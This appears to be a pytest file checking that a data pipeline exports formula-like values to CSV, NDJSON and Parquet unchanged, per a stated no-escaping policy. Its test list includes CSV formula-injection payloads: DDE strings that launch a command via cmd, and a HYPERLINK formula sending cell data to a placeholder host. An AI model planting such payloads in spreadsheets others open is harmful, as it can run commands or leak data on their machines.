"""CSV formula injection policy (docs/generations.md): data is exported exactly as collected,
never altered. Values that a spreadsheet would run as formulas (leading ``=``, ``+``, ``-``,
``@``, tab, carriage return) reach CSV, NDJSON and Parquet files unchanged: no quote prefix, no
escaping beyond RFC 4180 quoting. These files feed warehouses, not spreadsheets."""

from __future__ import annotations

import csv
import gzip
import io
import json

import pyarrow.parquet as pq
import pytest

from dataflow_assets_tests.faults.checks import audit
from dataflow_assets_tests.faults.deployment import Deployment
from dataflow_assets_tests.support import T0, event

FORMULAS = [
    "=1+1",
    "+x",
    "-x",
    "@x",
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_formula_like_values_are_exported_unchanged(deployment: Deployment, fmt: str) -> None:
    d = deployment
    events = [event(i + 1, T0, page=v, note=v) for i, v in enumerate(FORMULAS)]
    d.ingest(events)
    flow = d.write_flow("formulas", format=fmt)
    assert d.cli("export", "formulas").code == 0
    result = audit(d.out, flow, d.events)  # exact, value for value
    [rel] = result.reported
    raw = (d.out / rel).read_bytes()
    if fmt == "csv":
        text = gzip.decompress(raw).decode("utf-8")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        values = {int(r["event_id"]): (r["page"], r["note"]) for r in rows}
        for i, v in enumerate(FORMULAS):
            assert values[i + 1] == (v, v)
        # Verbatim in the bytes too: RFC 4180 quoting only, no "'" or "\t" prefix added.
        assert ",=1+1," in text and ',"=HYPERLINK(""http' in text and ",@x," in text
    elif fmt == "json":
        lines = gzip.decompress(raw).decode("utf-8").splitlines()
        values = {o["event_id"]: o["page"] for o in map(json.loads, lines)}
        assert [values[i + 1] for i in range(len(FORMULAS))] == FORMULAS
    else:
        table = pq.read_table(d.out / rel)
        by_id = dict(zip(table["event_id"].to_pylist(), table["page"].to_pylist(), strict=True))
        assert [by_id[i + 1] for i in range(len(FORMULAS))] == FORMULAS
